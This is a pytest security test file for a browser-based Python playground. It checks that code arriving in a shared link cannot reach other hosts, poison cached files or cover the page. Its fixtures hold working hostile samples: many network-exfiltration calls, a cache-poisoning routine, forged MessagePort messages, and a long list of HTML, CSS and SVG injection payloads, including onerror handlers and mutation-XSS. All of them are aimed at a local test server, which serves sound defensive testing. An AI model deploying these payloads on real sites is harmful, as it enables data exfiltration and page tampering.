"""Code of a stranger's link, run in the playground: it reaches no other host, leaves nothing behind, and covers nothing.

Part of `make live-test`, and of `make live-core` where marked so. What must not work is shown to work where nothing stops it: the same
code in a book without policy and sandbox, the same markup in a page without policy.
"""

import base64
import contextlib
import http.server
import re
import shutil
import threading
import zlib

import browsing
import pytest
from browsing import eventually, says
from live_pages import SITE, core, ended, serving, state, visiting

pytestmark = pytest.mark.timeout(1800)

SETUP = """
import asyncio, js
from IPython.display import HTML, SVG, Markdown, display
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js

options = lambda **given: to_js(given, dict_converter=js.Object.fromEntries)
blob = lambda text: js.URL.createObjectURL(js.Blob.new(to_js([text]), options(type="text/javascript")))

def tried(**ways):
    for name, act in ways.items():
        try:
            act()
        except BaseException as error:
            print(name, type(error).__name__)
"""
# Each asks HOST for its name, where nothing stops it.
WAYS = (
    SETUP
    + """
NESTED = '''for (const act of [() => fetch("HOST/nested_fetch"), () => importScripts("HOST/nested_scripts"),
    () => new WebSocket("WS/nested_socket"), () => import("HOST/nested_import")]) try { act()?.catch?.(() => 0) } catch { }'''

def xhr(method, name):
    asked = js.XMLHttpRequest.new()
    asked.open(method, f"HOST/{name}", False)
    asked.send("what you write")

fetched = lambda name, **given: js.WorkerGlobalScope.prototype.fetch.call(js.self, f"HOST/{name}", options(**given))
tried(
    fetch=lambda: fetched("fetch"),
    post=lambda: fetched("post", method="POST", body="x", mode="no-cors"),
    keepalive=lambda: fetched("keepalive", method="POST", body="x", mode="no-cors", keepalive=True),
    xhr=lambda: xhr("GET", "xhr"),
    xhr_post=lambda: xhr("POST", "xhr_post"),
    socket=lambda: js.WebSocket.new("WS/socket"),
    imported=lambda: js.eval("import('HOST/imported')"),
    function=lambda: js.Function.new("import('HOST/function')")(),
    run_js=lambda: run_js("import('HOST/run_js')"),
    timer=lambda: js.setTimeout("import('HOST/timer')", 0),
    events=lambda: js.EventSource.new("HOST/events"),
    font=lambda: js.FontFace.new("stolen", "url(HOST/font)").load(),
    scripts=lambda: js.WorkerGlobalScope.prototype.importScripts.call(js.self, "HOST/scripts"),
    nested=lambda: js.Worker.new(blob(NESTED)),
    module=lambda: js.Worker.new(blob("import 'HOST/module'"), options(type="module")),
    data=lambda: js.Worker.new("data:text/javascript," + js.encodeURIComponent(NESTED.replace("nested", "data"))),
    foreign=lambda: js.Worker.new("HOST/foreign"),
    transport=lambda: js.WebTransport.new("HOST/transport".replace("http:", "https:")),
    peers=lambda: js.RTCPeerConnection.new(),
)
"""
)
HEARD = [
    "fetch",
    "post",
    "keepalive",
    "xhr",
    "xhr_post",
    "socket",
    "imported",
    "function",
    "run_js",
    "timer",
    "events",
    "font",
    "scripts",
    "module",
]
HEARD += ["nested_fetch", "nested_scripts", "nested_socket", "nested_import"]

# What the browser keeps of the book.
POISON = (
    SETUP
    + """
async def poison():
    for name in await js.caches.keys():
        store = await js.caches.open(name)
        for asked in await store.keys():
            if asked.url.endswith("kernel.py"):
                whole = await (await store.match(asked)).text()
                await store.put(asked, js.Response.new(whole + "\\nprint('POISONED')\\n"))
            elif ".html" in asked.url:
                page = "<!doctype html><title>x</title><script>document.title = 'POISONED'</script>"
                await store.put(asked, js.Response.new(page, options(headers=to_js({"Content-Type": "text/html"}, dict_converter=js.Object.fromEntries))))
    js.BroadcastChannel.new("stolen").postMessage("poisoned")

asyncio.ensure_future(poison())
tried(database=lambda: js.indexedDB.open("stolen"), files=lambda: js.navigator.storage.getDirectory())
"""
)
# Messages to the page, past worker.js: what it prints goes through its port.
FORGED = """
posts, found = js.MessagePort.prototype.postMessage, []
js.MessagePort.prototype.postMessage = create_proxy(lambda this, *given: (found.append(this), posts.call(this, *given))[1], capture_this=True)
print("caught")
js.MessagePort.prototype.postMessage = posts
port = found[0]
say = lambda **given: posts.call(port, options(**given))
for name in ("../../index.html", "HOST/wanted", "__proto__", "sums.json"):
    posts.call(port, name, to_js([js.MessageChannel.new().port2]))
for kind in ("hint", "error", "text", "display"):
    say(shows=1, message=options(kind=kind, text=MARKUP, data=options(**{"text/latex": MARKUP})))
for form in ("text/html", "text/plain", "image/svg+xml", "image/png"):
    say(shows=1, message=options(kind="display", data=options(**{form: MARKUP})))
say(phase="packages", names=to_js([MARKUP]))
say(phase="download", done=MARKUP, total=MARKUP)
say(begins=MARKUP)
say(ends=1, ok=True, seconds=1)
say(over=1, failed=MARKUP)
"""

# Each asks HOST for its name where it stands in a page without policy.
MARKUP = {
    "img": '<img src="HOST/img">',
    "upper": '<IMG SRC="HTTP:BARE/upper">',
    "bare": '<img src="BARE/bare">',
    "slashes": r'<img src="\\BACK\slashes">',
    "tab": '<img src="ht&#9;tp:BARE/tab">',
    "srcset": '<img srcset="HOST/srcset 1x">',
    "picture": '<picture><source srcset="HOST/picture"><img></picture>',
    "handler": "<img src=x onerror=\"fetch('HOST/handler')\">",
    "ready": "<svg><animate attributeName=x dur=1s onbegin=\"fetch('HOST/ready')\"></svg>",
    "toggled": "<details open ontoggle=\"fetch('HOST/toggled')\">x</details>",
    "sheet": "<style>@import url(HOST/sheet);</style>",
    "rule": "<style>.stolen { background: url(HOST/rule); }</style><p class=stolen>x</p>",
    "style": '<p style="background: url(HOST/style)">x</p>',
    "escaped": r'<p style="background: u\72l(HOST/escaped)">x</p>',
    "set": "<p style=\"background: image-set('HOST/set' 1x)\">x</p>",
    "variable": '<p style="--x: url(HOST/variable); background: var(--x)">x</p>',
    "list": '<p style="display: list-item; list-style-image: url(HOST/list)">x</p>',
    "border": '<p style="border: 9px solid; border-image-source: url(HOST/border)">x</p>',
    "mask": '<p style="mask-image: url(HOST/mask)">x</p>',
    "shape": '<p style="float: left; shape-outside: url(HOST/shape)">x</p>',
    "table": '<table background="HOST/table"><tr><td>x</table>',
    "cell": '<table><tr><td background="HOST/cell">x</table>',
    "frame": '<iframe src="HOST/frame"></iframe>',
    "srcdoc": "<iframe srcdoc=\"<img src='HOST/srcdoc'>\"></iframe>",
    "object": '<object data="HOST/object"></object>',
    "embed": '<embed src="HOST/embed">',
    "link": '<link rel="stylesheet" href="HOST/link">',
    "video": '<video src="HOST/video" preload="auto"></video>',
    "poster": '<video poster="HOST/poster"></video>',
    "audio": '<audio src="HOST/audio" preload="auto"></audio>',
    "submit": '<input type="image" src="HOST/submit">',
    "svg-image": '<svg width=9 height=9><image href="HOST/svg-image" width=9 height=9 /></svg>',
    "svg-xlink": '<svg width=9 height=9><image xlink:href="HOST/svg-xlink" width=9 height=9 /></svg>',
    "svg-style": "<svg width=9 height=9><style>@import url(HOST/svg-style);</style></svg>",
    "svg-foreign": '<svg><foreignObject width=9 height=9><img src="HOST/svg-foreign"></foreignObject></svg>',
    "svg-html": '<svg><p><img src="HOST/svg-html"></svg>',
    "mathml": '<math><mtext><img src="HOST/mathml"></mtext></math>',
    "mutated": '<svg></p><style><a id="</style><img src=HOST/mutated>">',
}
# Each covers the page where it stands in it.
COVERS = {
    "fixed": '<p style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999">x</p>',
    "absolute": '<p style="position: absolute; top: -9999px; left: -9999px; width: 20000px; height: 20000px; z-index: 9999">x</p>',
    "margin": '<p style="position: relative; margin: -9999px; height: 20000px; z-index: 9999">x</p>',
    "class": '<div class="modal-backdrop">x</div>',
    "dialog": '<dialog open style="position: fixed; top: 0; width: 100%; height: 100%; z-index: 9999">x</dialog>',
}


class Stranger(http.server.BaseHTTPRequestHandler):
    """Answers everybody, and keeps what it was asked for."""

    def do_GET(self):
        self.server.heard.add(self.path.strip("/"))
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header(
            "Content-Type", "text/css" if {"link", "sheet"} & {self.path.strip("/")} else "text/javascript"
        )
        self.end_headers()

    do_POST = do_OPTIONS = do_GET

    def log_message(self, *arguments):
        pass


@pytest.fixture
def stranger():
    """The server of a stranger: `host` is its address, `heard` what it was asked for."""
    with browsing.Server(("127.0.0.1", 0), Stranger) as server:
        server.heard, server.host = set(), f"http://127.0.0.1:{server.server_port}"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


address = pytest.fixture(serving, scope="module", name="address")


@contextlib.contextmanager
def altered(folder, **changes):
    """Serve the book with another text in some files, by the end of their names; all others are links to the book's."""
    shutil.copytree(SITE, folder, copy_function=lambda source, to: folder.__class__(to).symlink_to(source))
    for end, change in changes.items():
        files = [*folder.rglob(f"*{end.replace('_', '.')}")]
        texts = {file: file.read_text(encoding="utf-8") for file in files}
        assert any(change(text) != text for text in texts.values()), end
        for file, text in texts.items():
            file.unlink()
            file.write_text(change(text), encoding="utf-8")
    with browsing.served(folder) as address:
        yield address


def without_policy(text):
    return re.sub(r'<meta http-equiv=\\?"Content-Security-Policy\\?"[^>]*>', "", text)


def without_sandbox(script):
    assert script.count("allow-scripts") == 1
    return without_policy(script).replace("allow-scripts", "allow-scripts allow-same-origin")


@pytest.fixture(scope="module")
def open_address(tmp_path_factory):
    """The address of the book without what guards it."""
    place = tmp_path_factory.mktemp("open") / "site"
    with altered(place, page_js=without_sandbox, _html=without_policy) as address:
        yield address


@pytest.fixture
def visitor(browser):
    with visiting(browser) as context:
        yield context
        print(*map(state, context.pages), sep="\n")  # which pytest shows of a test that failed


def of(stranger, text):
    """Return a text with the addresses of the stranger."""
    bare = stranger.host.removeprefix("http:")
    for name, value in (("HOST", stranger.host), ("WS", f"ws:{bare}"), ("BARE", bare), ("BACK", bare.strip("/"))):
        text = text.replace(name, value)
    return text


def visit(visitor, address, code):
    """Follow a link to the playground with this code; return the page."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    sent = base64.urlsafe_b64encode(packed.compress(code.encode()) + packed.flush()).decode().rstrip("=")
    page = visitor.new_page()
    page.goto(f"{address}book/playground.html#code={sent}")
    page.evaluate("localStorage.setItem('hpt-live', 'yes')")
    page.locator("#playground .live-state", has_text="Read it before you run it").wait_for()
    return page


def clicked(page):
    """Run the code that came with the link; return what it shows."""
    with ended(page, page.locator("#playground .live-bar")):
        page.get_by_role("button", name="Run", exact=True).click()
    return page.locator(".live-output").inner_text().strip() if page.locator(".live-output").count() else ""


def ran(visitor, address, code):
    """Run code of a link in a new tab; return what it shows."""
    page = visit(visitor, address, code)
    shown = clicked(page)
    page.close()
    return shown


KEPT = """async () => {
    const kept = { database: (await indexedDB.databases()).length, memory: Object.keys(localStorage).sort() };
    for (const name of await caches.keys()) {
        const store = await caches.open(name);
        for (const asked of await store.keys()) {
            const digest = await crypto.subtle.digest("SHA-256", await (await store.match(asked)).arrayBuffer());
            kept[`${name} ${asked.url}`] = new Uint8Array(digest).join();
        }
    }
    return kept;
}"""
# A listener for what other tabs of the book say, and an old cache into which code of a link had written.
BEFORE = """async () => {
    globalThis.channel = new BroadcastChannel("stolen");
    channel.onmessage = () => { document.title = "POISONED"; };
    const page = new Response("<title>POISONED</title>", { headers: { "Content-Type": "text/html" } });
    await (await caches.open("hpt-pages")).put(new URL("book/playground.html", location), page);
}"""


@core
def test_code_of_a_link_reaches_no_host_and_leaves_nothing(visitor, address, stranger):
    first = visitor.new_page()
    first.goto(f"{address}404.html")
    first.evaluate(BEFORE)
    assert ran(visitor, address, "print('harmless')") == "harmless"
    eventually(lambda: first.evaluate("async () => (await caches.keys()).sort()"), ["hpt-files", "hpt-opened"])
    ran(visitor, address, "print('harmless')")  # its page has a keeper from the start
    kept, title = first.evaluate(KEPT), first.title()
    assert not [key for key in kept if key.startswith("hpt-opened") and "/python-" in key]
    shown = "".join(MARKUP.values())
    code = WAYS + POISON + f"MARKUP = {shown!r}\n"
    code += "for form in (HTML, Markdown, SVG): display(form(MARKUP))\ndisplay(Markdown('![x](HOST/image)'))\n" + FORGED
    page = visit(visitor, address, of(stranger, code))
    assert "caught" in clicked(page)
    assert ran(visitor, address, "print('harmless')") == "harmless"
    assert stranger.heard == set()
    assert first.evaluate(KEPT) == kept
    assert (first.title(), page.title()) == (
        title,
        "Playground: race a strategy of your own — Hyperparameter Tuning from Scratch",
    )
    visitor.set_offline(True)
    first.goto(f"{address}book/playground.html")
    assert first.title() == page.title()
    assert ran(visitor, address, "print('harmless')") == "harmless"


def test_where_nothing_stops_it_the_same_code_does_all_of_it(visitor, open_address, stranger):
    ran(visitor, open_address, "print('harmless')")
    page = visitor.new_page()
    page.goto(f"{open_address}404.html")
    page.evaluate("() => { new BroadcastChannel('stolen').onmessage = () => { document.title = 'POISONED'; }; }")
    attack = visit(visitor, open_address, of(stranger, WAYS + POISON))
    clicked(attack)
    eventually(lambda: set(HEARD) - stranger.heard, set())
    eventually(page.title, "POISONED")
    assert page.evaluate(KEPT)["database"] == 1
    visitor.set_offline(True)
    page.goto(f"{open_address}book/playground.html")
    assert page.title() == "POISONED"


@pytest.mark.parametrize("without", ["page_js", "_html"])
def test_the_policy_of_the_page_and_that_of_the_frame_each_stop_it_alone(visitor, stranger, tmp_path, without):
    with altered(tmp_path / "site", **{without: without_policy}) as half:
        assert "peers" in ran(visitor, half, of(stranger, WAYS))  # the last way was tried
        assert ran(visitor, half, "print('harmless')") == "harmless"
    assert stranger.heard == set()


@core
def test_what_is_read_from_the_browser_or_the_server_is_what_the_book_was_built_with(visitor, address, tmp_path):
    ran(visitor, address, "print('harmless')")
    page = visitor.new_page()
    page.goto(f"{address}404.html")
    spoil = """async () => { for (const name of await caches.keys()) for (const { url } of await (await caches.open(name)).keys())
        if (/kernel.py|sums.json/.test(url)) await (await caches.open(name)).put(url, new Response("print('POISONED')")); }"""
    page.evaluate(spoil)
    assert ran(visitor, address, "print('harmless')") == "harmless"
    with altered(tmp_path / "site", kernel_py=lambda text: text + "\nprint('POISONED')\n") as other:
        changed = visit(visitor, other, "print('harmless')")
        assert clicked(changed) == ""
        says(changed.locator(".live-state"), "…kernel.py is not the file that the book was built with")
        (file,) = tmp_path.rglob("kernel.py")
        file.write_bytes((SITE / file.relative_to(tmp_path / "site")).read_bytes())
        assert clicked(changed) == "harmless"  # it can be tried again


DRAW = """async ([place, form, markup]) => {
    const { drawn } = await import(new URL("_static/live/outputs.js", new URL(place, location)));
    const box = document.createElement("div");
    box.className = "live-output";
    box.append(drawn({ kind: "display", data: { [form]: markup } }));
    (document.querySelector("#playground") ?? document.body).after(box);
}"""


def marked(page, stranger):
    """Wait until the stranger has heard of a last picture: all that was asked for before has then come."""
    page.evaluate("host => { new Image().src = host + '/last'; }", stranger.host)
    eventually(lambda: "last" in stranger.heard)


@core
def test_each_markup_loads_from_a_host_where_nothing_stops_it_and_none_of_it_when_it_is_drawn(
    visitor, address, stranger
):
    page = visitor.new_page()
    page.goto(f"{address}404.html")  # has no policy
    assert "Content-Security-Policy" not in page.content()
    for form in ("text/html", "text/markdown", "image/svg+xml", "text/latex", "image/png"):
        for markup in MARKUP.values():
            page.evaluate(DRAW, [address, form, of(stranger, markup)])
    marked(page, stranger)
    assert stranger.heard == {"last"}
    for markup in MARKUP.values():
        page.evaluate("markup => document.body.insertAdjacentHTML('beforeend', markup)", of(stranger, markup))
    eventually(lambda: set(MARKUP) - stranger.heard, set())


def test_the_policy_of_a_page_alone_stops_each_markup(visitor, address, stranger):
    page = visitor.new_page()
    page.goto(f"{address}book/playground.html")
    for markup in MARKUP.values():
        page.evaluate("markup => document.body.insertAdjacentHTML('beforeend', markup)", of(stranger, markup))
    browsing.settle(page)
    page.evaluate("fetch('index.html').then(answer => answer.text())")
    outside = visitor.new_page()
    outside.goto(f"{address}404.html")
    marked(outside, stranger)
    assert stranger.heard == {"last"}


@core
def test_the_policy_of_a_page_lets_the_book_work(visitor, address):
    page = visitor.new_page()
    browsing.watch(page, address)
    page.goto(f"{address}chapters/02_grid_search/exercises.html")
    page.evaluate("window.print = () => { document.title = 'printed'; }")
    page.evaluate("document.querySelector('[data-print]').click()")
    eventually(page.title, "printed")
    assert not page.complaints


# Whether what is seen at some place of the window, outside of the output, belongs to the output.
COVERED = """() => {
    const box = document.querySelector(".live-output"), { left, right, top, bottom } = box.getBoundingClientRect();
    for (let x = 5; x < innerWidth; x += 40) for (let y = 5; y < innerHeight; y += 40)
        if ((x < left || x > right || y < top || y > bottom) && box.contains(document.elementFromPoint(x, y))) return true;
    return false;
}"""


@core
@pytest.mark.parametrize("way", COVERS)
def test_an_output_covers_nothing_of_the_page(visitor, address, way):
    page = visitor.new_page()
    page.goto(f"{address}book/playground.html")
    page.evaluate(DRAW, ["../", "text/html", COVERS[way]])
    assert not page.evaluate(COVERED)
    page.evaluate(
        """markup => {
        const box = document.querySelector(".live-output");
        box.style.contain = "none";
        box.innerHTML = markup;
    }""",
        COVERS[way],
    )
    assert page.evaluate(COVERED)


@core
def test_twenty_thousand_lines_are_shown_and_of_more_a_part(visitor, address):
    code = "for i in range(20_000): print(i)\nprint('x' * 299_999)\nprint('never')\n1 / 0"
    page = visit(visitor, address, code)
    shown = clicked(page)
    lines = shown.splitlines()
    assert lines[:20_000] == [str(i) for i in range(20_000)]
    assert "The page shows no more than 300,000 characters of a cell." in shown
    assert "never" not in shown
    assert "ZeroDivisionError" in shown
    assert page.evaluate("document.querySelector('.live-text pre').childNodes.length") < 2_000


@core
def test_a_flood_of_messages_ends_the_cell_and_the_page_answers(visitor, address):
    catch, _, _ = FORGED.partition("for name in")
    flood = "message = options(shows=1, message=options(kind='error', text='x'))\nwhile True: posts.call(port, message)"
    page = visit(visitor, address, SETUP + catch + flood)
    clicked(page)
    says(page.locator("#playground .live-state"), "Stopped: this cell shows more…")
    eventually(lambda: (len(page.frames), len(page.workers)), (1, 0))


def test_a_cell_that_asks_says_what_to_do_instead(visitor, address):
    shown = ran(visitor, address, "name = input('Your name? ')")
    assert "write the value into the code" in shown
    assert "kernel.py" not in shown
